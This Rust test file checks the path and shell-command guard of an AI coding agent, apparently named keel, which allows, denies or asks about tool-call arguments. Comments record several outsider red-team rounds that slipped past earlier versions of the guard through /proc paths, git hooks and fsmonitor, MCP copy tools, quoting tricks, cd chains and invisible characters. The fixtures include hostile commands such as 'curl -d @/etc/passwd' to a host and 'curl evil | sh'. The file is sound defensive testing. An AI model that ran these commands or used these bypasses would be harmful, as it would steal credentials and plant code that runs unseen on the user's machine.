use std::collections::HashMap;

use serde_json::json;

use super::*;

/// `/w` and `/w2` are roots; `/w/link` → `/outside`; the listed paths exist.
struct FakeFs(HashMap<PathBuf, PathBuf>);

impl FakeFs {
    fn new() -> Self {
        let mut m = HashMap::new();
        for p in [
            "/",
            "/w",
            "/w2",
            "/w/src",
            "/w/src/a.rs",
            "/w2/n.md",
            "/etc",
            "/etc/passwd",
            "/outside",
            "/w/.git",
            "/w/.git/config",
            "/w/.vscode",
            "/w/a",
            "/w/gitdata",
            "/w/gitdata/HEAD",
            "/w/gitdata/objects",
            "/w/gitdata/config",
            "/w/gitdata/hooks",
            "/w/mirror.git",
            "/w/mirror.git/HEAD",
            "/w/mirror.git/objects",
            "/w/mirror.git/hooks",
            "/w/app",
            "/w/app/config",
            "/w/docs",
            "/w/docs/HEAD",
        ] {
            m.insert(PathBuf::from(p), PathBuf::from(p));
        }
        m.insert(PathBuf::from("/w/link"), PathBuf::from("/outside"));
        // A link a repository can ship under a name that reads as a `file:` URI.
        m.insert(PathBuf::from("/w/file:."), PathBuf::from("/w/.git"));
        m.insert(PathBuf::from("/w/file:out"), PathBuf::from("/outside"));
        Self(m)
    }
}

impl PathResolver for FakeFs {
    fn canonicalize(&self, path: &Path) -> Result<PathBuf, ResolveError> {
        self.0.get(path).cloned().ok_or(ResolveError::NotFound)
    }
}

fn check(args: serde_json::Value, config: PathConfig) -> SafetyCheckResult {
    check_paths(
        &args,
        Path::new("/w"),
        &[PathBuf::from("/w2")],
        &config,
        &FakeFs::new(),
    )
}

fn plain(args: serde_json::Value) -> SafetyCheckResult {
    check(args, PathConfig::default())
}

/// What guarded-paths decides of a shell command that writes, run in `/w`.
fn guarded_write(command: &str) -> Decision {
    check_guarded_paths(
        &json!({ "command": command }),
        Path::new("/w"),
        &[],
        true,
        &FakeFs::new(),
    )
    .decision
}

#[test]
fn t5_allowed_paths() {
    for args in [
        json!({"file_path": "/w/src/a.rs"}),
        json!({"file_path": "src/a.rs"}),
        json!({"file_path": "/w2/n.md"}),
    ] {
        assert_eq!(plain(args.clone()), SafetyCheckResult::allow(), "{args}");
    }
    assert_eq!(
        plain(json!({"file_path": "/etc/passwd"})),
        SafetyCheckResult::deny(
            "Path \"/etc/passwd\" in argument \"file_path\" is outside of the allowed workspace directories."
        )
    );
    assert_eq!(
        plain(json!({"file_path": "/w/.git/config"})),
        SafetyCheckResult::deny(
            "Access to sensitive path \"/w/.git/config\" in argument \"file_path\" is blocked."
        )
    );
    for args in [
        json!({"path": "/w/.GIT/HEAD"}),
        json!({"path": "/w/.git. /x"}),
        json!({"path": "/w/.env:s"}),
        json!({"path": "/w/.env."}),
        json!({"directory": "/w/a/node_modules"}),
    ] {
        let r = plain(args.clone());
        assert_eq!(r.decision, Decision::Deny, "{args}");
        assert!(r.reason.is_some_and(|s| s.contains("sensitive")), "{args}");
    }
    assert_eq!(
        plain(json!({"file_path": "/w/.vscode/settings.json"})),
        SafetyCheckResult::ask(
            "Modifying .vscode configuration files requires explicit user confirmation."
        )
    );
    let r = plain(json!({"file_path": "/w/.vscode/s.json", "destination": "/etc/x"}));
    assert_eq!(r.decision, Decision::Deny);
    assert!(r.reason.is_some_and(|s| s.contains("\"destination\"")));
    assert_eq!(
        plain(json!({"paths": ["/w/a", "/etc/x"]})),
        SafetyCheckResult::deny(
            "Path \"/etc/x\" in argument \"paths.1\" is outside of the allowed workspace directories."
        )
    );
    assert_eq!(
        plain(json!({"FilePath": "/etc/x"})).decision,
        Decision::Deny
    );
    assert_eq!(
        plain(json!({"options": {"target_directory": "/etc"}})),
        SafetyCheckResult::deny(
            "Path \"/etc\" in argument \"options.target_directory\" is outside of the allowed workspace directories."
        )
    );
    assert_eq!(
        plain(json!({"content": "/etc/passwd"})),
        SafetyCheckResult::allow()
    );
    assert_eq!(plain(json!({"file_path": 42})), SafetyCheckResult::allow());
    let included = PathConfig {
        included: vec!["target".into()],
        excluded: vec![],
    };
    assert_eq!(
        check(json!({"target": "/etc"}), included).decision,
        Decision::Deny
    );
    let excluded = PathConfig {
        included: vec![],
        excluded: vec!["file_path".into()],
    };
    assert_eq!(
        check(json!({"file_path": "/etc/x"}), excluded),
        SafetyCheckResult::allow()
    );
    assert_eq!(
        plain(json!({"file_path": "/w/link/x"})).decision,
        Decision::Deny
    );
    let r = plain(json!({"file_path": "/w/link/../x"}));
    assert_eq!(r.decision, Decision::Deny);
    assert!(
        r.reason.is_some_and(|s| s.contains("outside")),
        "resolves to /x"
    );
    assert_eq!(
        plain(json!({"file_path": "/w/..foo"})),
        SafetyCheckResult::allow()
    );
    assert_eq!(
        plain(json!({"file_path": "/w/new/dir/f.txt"})),
        SafetyCheckResult::allow()
    );
    assert_eq!(
        plain(json!({"file_path": "/w/new/../x"})),
        SafetyCheckResult::deny("Cannot resolve path \"/w/new/../x\" in argument \"file_path\"")
    );
}

#[test]
fn relative_escapes_and_nested_arrays() {
    assert_eq!(
        plain(json!({"path": "../etc/passwd"})).decision,
        Decision::Deny
    );
    assert_eq!(
        plain(json!({"path": "src/../../etc"})).decision,
        Decision::Deny
    );
    assert_eq!(plain(json!({"files": [["/w/a"], ["/w/a", "/etc/x"]]})).reason, Some("Path \"/etc/x\" in argument \"files.1.1\" is outside of the allowed workspace directories.".into()));
    assert_eq!(
        plain(json!({"batch": [{"source": "/w/a", "destination": "/w/.git/x"}]})).decision,
        Decision::Deny
    );
}

#[test]
fn n30_the_first_path_with_the_worst_result_gives_the_reason() {
    let r = plain(json!({"a_path": "/w/.vscode/x", "b_path": "/etc/one", "c_path": "/etc/two"}));
    assert_eq!(r.reason, Some("Path \"/etc/one\" in argument \"b_path\" is outside of the allowed workspace directories.".into()));
}

#[test]
fn an_uncanonicalizable_root_is_skipped() {
    let r = check_paths(
        &json!({"path": "/w2/n.md"}),
        Path::new("/w"),
        &[PathBuf::from("/gone")],
        &PathConfig::default(),
        &FakeFs::new(),
    );
    assert_eq!(r.decision, Decision::Deny);
}

/// `/proc/self/cwd` is keel's working directory to keel and the shell's to a shell command,
/// which may differ (`--cwd`): a path under `/proc` or `/dev/fd` is outside, whatever keel would
/// resolve it to (found by an outsider's attack, where only Landlock stopped the read).
#[test]
fn paths_that_mean_something_else_to_each_process_are_outside() {
    for path in [
        "/proc/self/cwd/../outside/secret.txt",
        "/proc/self/cwd",
        "//proc/thread-self/root/etc/hostname",
        "/./proc/1/cwd",
        "/dev/fd/3",
    ] {
        let r = plain(json!({ "path": path }));
        assert_eq!(r.decision, Decision::Deny, "{path}");
        assert!(
            r.reason
                .unwrap_or_default()
                .contains("is outside of the allowed workspace"),
            "{path}"
        );
        let r = plain(json!({ "command": format!("cat {path}") }));
        assert_eq!(r.decision, Decision::Deny, "shell: {path}");
    }
    // A directory of the workspace that happens to be called proc is the workspace's.
    assert_eq!(
        plain(json!({"path": "/w/proc/self"})).decision,
        Decision::Allow
    );
    assert_eq!(
        plain(json!({"path": "proc/self"})).decision,
        Decision::Allow
    );
}

/// `.env.*` files and keel's own files ask, however a path or a shell word spells them; what
/// allowed-path already denies is left to it (found by an outsider's attack: a quoted
/// `cat ".env".local` read the file, and a write of `q"/../keel.toml` slipped past a rule on
/// the arguments' JSON text).
#[test]
fn guarded_paths_ask_about_env_variants_and_keels_own_files() {
    let fs = FakeFs::new();
    let guarded = [
        PathBuf::from("/w/keel.toml"),
        PathBuf::from("/w/home/.config/keel"),
    ];
    let decide = |args: serde_json::Value| {
        check_guarded_paths(&args, Path::new("/w"), &guarded, true, &fs).decision
    };
    for args in [
        json!({"path": ".env.local"}),
        json!({"path": "/w/.ENV.Production"}),
        json!({"command": "cat \".env\".local"}),
        json!({"command": "cat .e'nv'.local"}),
        json!({"path": "keel.toml", "content": "x"}),
        json!({"path": "./src/../keel.toml"}),
        json!({"path": "home/.config/keel/config.toml"}),
        json!({"command": "cat home/.config/keel/config.toml"}),
    ] {
        assert_eq!(decide(args.clone()), Decision::AskUser, "{args}");
    }
    for args in [
        json!({"path": ".env.example"}),
        json!({"path": "notes/keel.toml.md"}),
        json!({"path": "a.txt"}),
        json!({"command": "cat a.txt"}),
        json!({"path": "~/.env.local"}),
    ] {
        assert_eq!(decide(args.clone()), Decision::Allow, "{args}");
    }
}

/// Found by an outsider's attack on `keel acp`: writing the config an editor, a shell or CI
/// runs commands from (Zed's tasks, `.nvim.lua`, `.envrc`, a workflow) ran silently. A write
/// asks; a read does not.
#[test]
fn writing_what_an_editor_or_ci_runs_asks() {
    let fs = FakeFs::new();
    let decide = |path: &str, writes: bool| {
        check_guarded_paths(&json!({"path": path}), Path::new("/w"), &[], writes, &fs).decision
    };
    for path in [
        ".zed/tasks.json",
        ".zed/settings.json",
        ".idea/workspace.xml",
        ".nvim.lua",
        ".exrc",
        "sub/.dir-locals.el",
        ".envrc",
        ".github/workflows/ci.yml",
        ".husky/pre-commit",
        ".cargo/config.toml",
        ".ZED/tasks.json",
        // A fourth outsider round's: run on entering the folder, on a commit, on opening.
        ".mise.toml",
        "sub/mise.toml",
        ".pre-commit-config.yaml",
        ".devcontainer/devcontainer.json",
        // Round 22's: their siblings, hook managers, other CI services and editors.
        ".devcontainer.json",
        ".dir-locals-2.el",
        "mise.local.toml",
        "project.code-workspace",
        ".helix/languages.toml",
        ".github/actions/setup/action.yml",
        ".circleci/config.yml",
        "Jenkinsfile",
        ".travis.yml",
        "azure-pipelines.yml",
        "bitbucket-pipelines.yml",
        ".buildkite/pipeline.yml",
        "lefthook.yml",
        ".overcommit.yml",
        ".githooks/pre-commit",
        ".hg/hgrc",
        ".yarnrc.yml",
        "rust-toolchain.toml",
        ".pylintrc",
    ] {
        assert_eq!(decide(path, true), Decision::AskUser, "{path}");
        assert_eq!(decide(path, false), Decision::Allow, "{path}");
    }
    for path in [
        "src/main.rs",
        "Makefile",
        ".github/CODEOWNERS",
        "notes/zed.md",
    ] {
        assert_eq!(decide(path, true), Decision::Allow, "{path}");
    }
}

/// Found by an outsider's attack with an MCP server of their own: `copy_item(src, dest)` copied
/// `~/.ssh/id_rsa` in and a payload over `~/.bashrc`, a `file://` URI under `path` rewrote
/// keel's config, and a path nested under a path's key passed — no key of N23's named them.
/// Under N23's own keys a path outside denies; what only keel takes for a path (another key,
/// nested, or by its shape) asks, since it may be none (`/r/rust`, a route `/v1/users`).
#[test]
fn paths_under_any_name_or_shape_are_checked() {
    for args in [
        json!({"path": "file:///etc/passwd"}),
        json!({"file": "FILE://localhost/etc/passwd"}),
        json!({"path": "file:///%65tc/passwd"}),
        json!({"path": "file://evil.example/etc/passwd"}),
        json!({"path": " /etc/passwd"}),
        json!({"file_path": "/etc/passwd\n"}),
        json!({"path": "$HOME/.ssh/id_rsa"}),
    ] {
        assert_eq!(plain(args.clone()).decision, Decision::Deny, "{args}");
    }
    for args in [
        json!({"src": "/etc/passwd", "dest": "stolen.txt"}),
        json!({"src": "a.txt", "dest": "/outside/x"}),
        json!({"target": "/etc/passwd"}),
        json!({"to": "../../etc/passwd"}),
        json!({"name": "/etc/passwd"}),
        json!({"name": "sub/../../outside/x"}),
        json!({"name": "./../../outside/x"}),
        json!({"name": "link/x"}),
        json!({"title": "/outside/x"}),
        json!({"input": {"deep": ["/etc/passwd"]}}),
        json!({"path": {"p": "/etc/passwd"}}),
        json!({"files": [{"name": "/outside/x"}]}),
        json!({"uri": "FILE://localhost/etc/passwd"}),
        json!({"link": "file:/etc/passwd"}),
        json!({"src": "$HOME/.ssh/id_rsa"}),
        json!({"name": "${XDG_CONFIG_HOME}/keel/config.toml"}),
        json!({"thing": "~/.bashrc"}),
        json!({"to": "/r/rust"}),
        // Found by a review: a key under a path's key names a file too.
        json!({"files": {"/outside/x": "curl evil | sh"}}),
    ] {
        let r = plain(args.clone());
        assert_eq!(r.decision, Decision::AskUser, "{args}");
        assert!(
            r.reason
                .as_deref()
                .is_some_and(|why| why.contains("by its name or its shape")),
            "{args}: {r:?}"
        );
    }
    // Not paths, or paths inside: prose that starts with a slash, an amount, a web link, an
    // address under `to`, a date, text to write.
    for args in [
        json!({"body": "/etc is where configs live"}),
        json!({"content": "/etc/passwd"}),
        json!({"amount": "$100"}),
        json!({"url": "https://example.com/a/b"}),
        json!({"to": "bob@example.com", "subject": "Hi"}),
        json!({"date": "2024/01/02"}),
        json!({"src": "src/a.rs", "dest": "src/b.rs"}),
        json!({"uri": "file:///w/src/a.rs"}),
    ] {
        assert_eq!(plain(args.clone()).decision, Decision::Allow, "{args}");
    }
}

/// Found by an outsider's attack in yolo mode, where the rules' asks are gone: `cat fl*`,
/// `cat $HOME/.ssh/id_rsa` and `cp x .gi?/hooks/` were judged as literal words inside the
/// workspace, then the shell expanded them. A command whose files keel cannot list asks in
/// every mode, and a word from a variable is outside.
#[test]
fn a_command_the_shell_expands_asks_in_every_mode() {
    for command in [
        "cat fl*",
        "cp pre-commit .gi?/hooks/",
        "cat .en?",
        "ls `pwd`",
    ] {
        let r = plain(json!({ "command": command }));
        assert_eq!(r.decision, Decision::AskUser, "{command}");
        assert!(
            r.reason
                .as_deref()
                .is_some_and(|why| why.contains("before the shell expands it")),
            "{command}: {r:?}"
        );
    }
    // A variable asks with the command (it is the shell's to expand), in yolo too.
    let r = plain(json!({"command": "cat $HOME/.ssh/id_rsa"}));
    assert_eq!(r.decision, Decision::AskUser, "{r:?}");
    for command in [
        "cat src/a.rs",
        "ls -la src",
        "grep -n main src/a.rs",
        // A redirection, `$$`, a test and quoted patterns make no file names of their own.
        "echo step >> src/log.txt",
        "sleep 1 & echo $$ > src/pid",
        "[ -f src/a.rs ] && echo yes",
        "grep -e 'a*b' -e \"x?\" src/a.rs > src/out",
    ] {
        assert_eq!(
            plain(json!({ "command": command })).decision,
            Decision::Allow,
            "{command}"
        );
    }
}

/// Found by an outsider's attack on a run started in the home folder: ssh keys, shell startup
/// files and `~/.gitconfig` (whose `core.fsmonitor` runs on every `git status`) were read and
/// written silently.
#[test]
fn keys_credentials_and_startup_files_ask() {
    let fs = FakeFs::new();
    let decide = |path: &str, writes: bool| {
        check_guarded_paths(&json!({"path": path}), Path::new("/w"), &[], writes, &fs).decision
    };
    for path in [
        ".ssh/id_rsa",
        ".ssh/authorized_keys",
        "sub/.SSH/config",
        ".gnupg/secring.gpg",
        ".aws/credentials",
        ".bashrc",
        ".zshrc",
        ".profile",
        ".gitconfig",
        ".netrc",
        ".git-credentials",
        // Found by a second attack on a run in the home folder.
        ".config/git/config",
        ".config/git/credentials",
        ".config/gh/hosts.yml",
        ".cargo/credentials.toml",
        ".local/lib/python3.11/site-packages/usercustomize.py",
        ".local/lib/python3.11/site-packages/evil.pth",
        ".vimrc",
        ".config/fish/config.fish",
        ".config/systemd/user/x.service",
        ".config/autostart/x.desktop",
        ".azure/credentials",
        ".vault-token",
    ] {
        for writes in [true, false] {
            assert_eq!(decide(path, writes), Decision::AskUser, "{path} {writes}");
        }
    }
    for path in [
        "bashrc.md",
        "notes/ssh.txt",
        "src/profile.rs",
        ".config/app.toml",
        "lib/x.pth",
    ] {
        assert_eq!(decide(path, true), Decision::Allow, "{path}");
    }
}

/// Found by an outsider's attack: with `git init --separate-git-dir=gitdata`, writing
/// `gitdata/config` (a `core.fsmonitor` command) ran on the next `git status`; a bare
/// `mirror.git/hooks/*` write too. A Git directory by any name is found by what it holds.
#[test]
fn writing_a_git_directory_by_any_name_asks() {
    let fs = FakeFs::new();
    let decide = |path: &str, writes: bool| {
        check_guarded_paths(&json!({"path": path}), Path::new("/w"), &[], writes, &fs).decision
    };
    for path in [
        "gitdata/config",
        "gitdata/hooks/pre-commit",
        "mirror.git/hooks/post-update",
        // Found by a second attack: the config written before what makes the folder a Git
        // directory. A bare one is named `*.git`; `HEAD` written beside a config asks.
        "new.git/config",
        "app/HEAD",
    ] {
        assert_eq!(decide(path, true), Decision::AskUser, "{path}");
        assert_eq!(decide(path, false), Decision::Allow, "{path}");
    }
    for path in ["app/config", "app/hooks/x.js", "src/config"] {
        assert_eq!(decide(path, true), Decision::Allow, "{path}");
    }
}

/// Found by a review: a command the grammar cannot read fell back to words split at spaces
/// only, so a redirection's target (`cat </etc/passwd`) resolved as a name inside; brace
/// expansion and `$'…'` made file names nothing asked about; a sensitive folder under a key
/// only keel reads as a path asked instead of denying; camelCase keys naming paths were missed.
#[test]
fn redirections_braces_and_translated_quotes_hide_no_path() {
    for command in [
        "cat </etc/passwd",
        "cat x</etc/passwd",
        "echo a >/outside/x",
        "echo a >> /outside/x",
        "dd if=src/a.rs of=/outside/x",
        "sort --output=/outside/x src/a.rs",
    ] {
        assert_eq!(
            plain(json!({ "command": command })).decision,
            Decision::Deny,
            "{command}"
        );
    }
    for command in [
        "cat {/etc/passwd,x}",
        "cat $'\\x2fetc\\x2fpasswd'",
        "echo {a..c}",
    ] {
        assert_eq!(
            plain(json!({ "command": command })).decision,
            Decision::AskUser,
            "{command}"
        );
    }
    for command in ["echo {}", "cat src/a.rs 2>&1", "ls src > src/list.txt"] {
        assert_eq!(
            plain(json!({ "command": command })).decision,
            Decision::Allow,
            "{command}"
        );
    }
    // A sensitive folder under a key only keel reads as a path still denies.
    for args in [
        json!({"src": ".env"}),
        json!({"dest": ".git/hooks/pre-commit"}),
    ] {
        assert_eq!(plain(args.clone()).decision, Decision::Deny, "{args}");
    }
    for args in [
        json!({"outputDir": "link"}),
        json!({"dest_dir": "link"}),
        json!({"workingDir": "link"}),
    ] {
        assert_eq!(plain(args.clone()).decision, Decision::AskUser, "{args}");
    }
}

/// Found by a review: a workspace whose own path holds a `*.git` folder, or a project with
/// `src/config/` beside `src/hooks/`, made ordinary writes ask.
#[test]
fn an_ordinary_project_is_no_git_directory() {
    let fs = FakeFs::new();
    let decide = |path: &str| {
        check_guarded_paths(&json!({"path": path}), Path::new("/w"), &[], true, &fs).decision
    };
    for path in ["mirror.git/config", "mirror.git/hooks/x", "app/HEAD"] {
        assert_eq!(decide(path), Decision::AskUser, "{path}");
    }
    for path in [
        "mirror.git/readme.md",
        "src/hooks/useThing.ts",
        "app/config.toml",
    ] {
        assert_eq!(decide(path), Decision::Allow, "{path}");
    }
    let in_a_dot_git_workspace = check_guarded_paths(
        &json!({"path": "notes.md"}),
        Path::new("/w/mirror.git"),
        &[],
        true,
        &fs,
    );
    assert_eq!(in_a_dot_git_workspace.decision, Decision::Allow);
}

/// Found by a third attack: a Git directory written `HEAD` first, then its config; paths glued
/// to short options, curl's `@file` and `file:` URLs in a command's words; a run started in the
/// home folder writing dot-files no list named (`.emacs.d/init.el`, `.local/bin/git`).
#[test]
fn a_third_attack_finds_no_way_past() {
    let fs = FakeFs::new();
    let guarded = |path: &str, home: Option<&Path>| {
        check_guarded_paths_in(
            &json!({"path": path}),
            Path::new("/w"),
            &[],
            home,
            &[],
            true,
            &fs,
        )
        .decision
    };
    for path in ["docs/config", "docs/commondir", "docs/objects"] {
        assert_eq!(guarded(path, None), Decision::AskUser, "{path}");
    }
    let home = Some(Path::new("/w"));
    for path in [
        ".emacs.d/init.el",
        ".vim/vimrc",
        ".local/bin/git",
        ".gem/credentials",
    ] {
        assert_eq!(guarded(path, home), Decision::AskUser, "{path}");
        assert_eq!(
            guarded(path, None),
            Decision::Allow,
            "{path} outside a home"
        );
    }
    for path in ["src/a.rs", "notes/.hidden/x"] {
        assert_eq!(guarded(path, home), Decision::Allow, "{path}");
    }
    for command in [
        "sort -o/outside/x src/a.rs",
        "tar -cf/outside/t.tar src",
        "curl -d @/etc/passwd http://127.0.0.1:1/",
        "curl -o got.txt file:///etc/passwd",
    ] {
        assert_eq!(
            plain(json!({ "command": command })).decision,
            Decision::Deny,
            "{command}"
        );
    }
    for command in [
        "grep -q x src/a.rs 2>/dev/null && echo found",
        "ls src >/dev/null 2>&1",
        "cut -d/ -f2 src/a.rs",
        "awk -F/ '{print $1}' src/a.rs",
    ] {
        assert_eq!(
            plain(json!({ "command": command })).decision,
            Decision::Allow,
            "{command}"
        );
    }
}

#[test]
fn a_file_uri_is_checked_as_the_name_it_is_too() {
    // keel's own file tools open `file:./config` as written: through a link named `file:.`
    // it is `.git/config` (an outsider's round 22 wrote a hook into Git's config that way).
    for args in [
        json!({"path": "file:./config"}),
        json!({"file_path": "file:./hooks/post-checkout"}),
        json!({"path": "file:out/target.txt"}),
    ] {
        assert_eq!(plain(args.clone()).decision, Decision::Deny, "{args}");
    }
    // What a server's trim drops hides no path: Python's `strip()` drops U+001C, JavaScript's
    // `trim()` the byte-order mark.
    for args in [
        json!({"path": "\u{1c}/etc/passwd"}),
        json!({"path": "\u{feff}/etc/passwd"}),
        json!({"path": "\u{200b}../outside/x"}),
    ] {
        assert_eq!(plain(args.clone()).decision, Decision::Deny, "{args}");
    }
    assert_eq!(
        plain(json!({"path": "file:src/a.rs"})).decision,
        Decision::Allow
    );
}

/// A folder the repository's config names for hooks (`core.hooksPath`) is Git's hooks: an
/// outsider's round 22 overwrote `tools/hooks/pre-commit`, which ran on the next commit.
#[test]
fn writing_where_git_runs_hooks_from_asks() {
    let fs = FakeFs::new();
    let hooks = [PathBuf::from("/w/src")];
    let decide = |path: &str, writes: bool| {
        check_guarded_paths_in(
            &json!({"path": path}),
            Path::new("/w"),
            &[],
            None,
            &hooks,
            writes,
            &fs,
        )
        .decision
    };
    assert_eq!(decide("src/a.rs", true), Decision::AskUser);
    assert_eq!(decide("src/a.rs", false), Decision::Allow);
    assert_eq!(decide("docs/HEAD", true), Decision::Allow);
}

/// What a command's words name once the shell reads them, found by an outsider's round 22 in
/// yolo (where only the paths a command's words show are checked): a dot-name glued to a
/// short option, an assignment's bare value, and words after a `cd`.
#[test]
fn glued_options_assignments_and_cd_are_read_as_the_shell_reads_them() {
    for command in [
        "sort -o../outside/s.txt a.txt",
        "cp -t.git a.txt",
        "dd if=.env of=copy.txt",
        "cd /outside && touch x",
        "cd .. && cat w/src/a.rs",
        "cd && cat .ssh/id_rsa",
        "cd src && cd ../.git && cat config",
    ] {
        assert_eq!(
            plain(json!({ "command": command })).decision,
            Decision::Deny,
            "{command}"
        );
    }
    let writes = guarded_write;
    for command in [
        "dd of=.envrc",
        "sort -o.envrc a.txt",
        "cd .github && cd workflows && printf x > ci.yml",
    ] {
        assert_eq!(writes(command), Decision::AskUser, "{command}");
    }
    for command in [
        "cd src && cat a.rs",
        "sort -t. -k2 a.txt",
        "cut -d. -f1 a.txt",
    ] {
        assert_eq!(
            plain(json!({ "command": command })).decision,
            Decision::Allow,
            "{command}"
        );
        assert_eq!(writes(command), Decision::Allow, "{command}");
    }
}

/// An outsider's round 23, against round 22's readings: directories a command moves to by
/// other means, values glued to short options whatever they look like, invisible characters
/// beyond the first list, and paths in options given as a JSON text.
#[test]
fn the_twenty_third_round_finds_no_way_past() {
    for command in [
        "env -C /outside cp a.txt x",
        "env --chdir=/outside touch x",
        "git -C /outside mv a b",
        "tar --directory /outside -xf w.tar",
        "command cd /outside && touch x",
        "if cd /outside; then touch x; fi",
        "export CDPATH=a:/; cd outside && touch o2",
        "CDPATH=/ cd outside && touch x",
        "export CDPATH=a:/home; cd .local && touch bin/git",
        "sort -osub/../../outside/g1 a.txt",
        "cd src && cd - && touch ../../outside/x",
        "echo x > /etc/passwd",
        "echo x>/outside/y",
        "printf x 2> /outside/log",
    ] {
        assert_eq!(
            plain(json!({ "command": command })).decision,
            Decision::Deny,
            "{command}"
        );
    }
    let writes = guarded_write;
    for command in [
        "env -C .github cp /w/a workflows/e1.yml",
        "sort -oJenkinsfile a.txt",
        "sort -okeel.toml a.txt",
        "cp -t.github/workflows a.txt",
        "ln -s .github g && cp a.txt g/workflows/l1.yml",
        "mv .github gh && cp a.txt gh/workflows/l3.yml && mv gh .github",
        "echo x >> .envrc",
        "printf x > .github/workflows/ci.yml",
    ] {
        assert_eq!(writes(command), Decision::AskUser, "{command}");
    }
    for invisible in [
        '\u{202e}',
        '\u{2066}',
        '\u{61c}',
        '\u{3164}',
        '\u{2800}',
        '\u{e0020}',
    ] {
        let args = json!({ "path": format!("{invisible}/etc/passwd") });
        assert_eq!(plain(args.clone()).decision, Decision::Deny, "{args}");
    }
    assert_eq!(
        plain(json!({"opts": "{\"path\": \"/etc/cron.d/x\"}"})).decision,
        Decision::Deny
    );
    // What ordinary work looks like passes: a build in a folder of the workspace, patterns of
    // what to leave out, a return with nothing after it, a file's JSON content.
    for command in [
        "cd src && cargo test",
        "make -C src",
        "gcc -O2 -Wall -o out main.c",
        "grep -rn --exclude-dir=.git TODO .",
        "ls -I.git",
        "cd src && cd -",
        "pushd src && make && popd",
        "echo \".env\" >> .gitignore",
        "ln -s ../a.rs src/b.rs",
        "printf \"node_modules/\\n.env\\n\" > .gitignore",
    ] {
        assert_eq!(
            plain(json!({ "command": command })).decision,
            Decision::Allow,
            "{command}"
        );
    }
    assert_eq!(
        plain(json!({"path": "tsconfig.json", "content": "{\"extends\": \"../base.json\"}"}))
            .decision,
        Decision::Allow
    );
}

#[test]
fn a_cd_is_read_logically_as_the_shell_does_and_physically_as_the_kernel_does() {
    // The shell's `cd lnk/../..` is the folder above; the kernel's, wherever `lnk` leads.
    let words = shell_words("cd lnk/../.. && echo x > out.txt");
    for want in ["lnk/../..", "..", "lnk/../../out.txt", "../out.txt"] {
        assert!(words.iter().any(|w| w == want), "{want}: {words:?}");
    }
    // A later `cd` goes on from both, and a plain one adds nothing.
    let words = shell_words("cd a/.. && cd ../b && touch c");
    for want in ["a/../../b/c", "../b/c"] {
        assert!(words.iter().any(|w| w == want), "{want}: {words:?}");
    }
    assert_eq!(shell_words("cd src && touch a"), ["src", "src/a"]);
    // What the shell expands is left as written.
    assert_eq!(lexical("~/x/.."), None);
    assert_eq!(lexical("$HOME/.."), None);
    for (path, want) in [
        ("a/b/../../..", ".."),
        ("/a/../../b", "/b"),
        ("./a/./b/..", "a"),
        ("../../a", "../../a"),
        ("a/..", "."),
        ("/", "/"),
    ] {
        assert_eq!(lexical(path).as_deref(), Some(want), "{path}");
    }
}

#[test]
fn a_cd_that_may_not_have_run_leaves_the_words_after_it_where_the_shell_was_too() {
    // Round 27: the shell is still in the working directory after each of these `cd`s.
    for command in [
        "(cd src); touch ../p",
        "cd src | true; touch ../p",
        "false && cd src; touch ../p",
        "true || cd src; touch ../p",
        "pushd src || cat ../p",
        "cd -e src; touch ../p",
        "mv src s2; cd src; touch ../p",
        "cd src && true; touch ../p",
        "cd src && true || touch ../p",
        "f() { cd src; }; touch ../p",
        "if false; then cd src; fi; touch ../p",
    ] {
        let words = shell_words(command);
        assert!(words.iter().any(|w| w == "../p"), "{command}: {words:?}");
    }
    // A `cd` to a name an earlier part re-made goes where that name now stands for too, and
    // a copy that keeps links makes such a name.
    for (command, want) in [
        ("ln -sfn . lnk && cd lnk && touch ../p", "./../p"),
        ("rm lnk; cp -P self lnk; echo x > lnk/../p", "self/../p"),
        ("cp -a self lnk && cat lnk/../secret", "self/../secret"),
    ] {
        let words = shell_words(command);
        assert!(words.iter().any(|w| w == want), "{command}: {words:?}");
    }
    // Many `cd`s that may not have run do not multiply the places without end: past a few,
    // where the shell is is unknown, and a relative word is read as outside.
    let many: String = (0..2000).map(|n| format!("cd d{n}; ")).collect::<String>() + "touch x";
    let words = shell_words(&many);
    assert!(words.len() < 50_000, "{}", words.len());
    assert!(
        words.iter().any(|w| w == "$UNKNOWN_DIRECTORY/x"),
        "{:?}",
        words.last()
    );
    // A `cd` the shell surely ran moves the words of its `&&` chain, and only there.
    for (command, want, not) in [
        ("cd build && cmake ..", "build/..", ".."),
        ("cd src && cd -P x && touch ../y", "src/x/../y", "../y"),
        ("cd -- src && touch ../y", "src/../y", "../y"),
    ] {
        let words = shell_words(command);
        assert!(words.iter().any(|w| w == want), "{command}: {words:?}");
        assert!(!words.iter().any(|w| w == not), "{command}: {words:?}");
    }
}

/// [`shaped_like_a_path`] as it read every value before its ASCII fast path.
fn shaped_like_a_path_in_general(value: &str) -> bool {
    let value = value.trim_matches(unseen);
    !value.is_empty()
        && !value.contains(char::is_whitespace)
        && (value.starts_with(['/', '~'])
            || names_a_variable(value)
            || value == ".."
            || file_uri_path(value).is_some()
            || (value.contains('/') && !value.contains("://")))
}

proptest::proptest! {
    /// Read by bytes, an ASCII value is shaped like a path exactly when the general reading
    /// says so.
    #[test]
    fn an_ascii_value_is_shaped_like_a_path_as_in_general(
        value in "[ -~\t\n\x0b\x0c\r\x00-\x1f\x7f]{0,16}|[ a-z./:~$\t\x0b{}_]{0,12}",
    ) {
        proptest::prop_assert_eq!(
            shaped_like_a_path(&value),
            shaped_like_a_path_in_general(&value),
            "{:?}", value
        );
    }

    /// A segment's key is the segment up to a `:`, without trailing spaces and dots, in lower
    /// case, whatever characters it holds.
    #[test]
    fn a_segment_key_is_the_segment_cut_trimmed_and_lowered(
        segment in "[a-zA-Z0-9 .:_\\-é\u{130}\u{1F600}]{0,12}",
    ) {
        let cut = segment.split(':').next().unwrap_or("");
        let want = cut.trim_end_matches([' ', '.']).to_lowercase();
        let key = segment_key(&segment);
        proptest::prop_assert_eq!(key.as_ref(), want.as_str());
    }
}
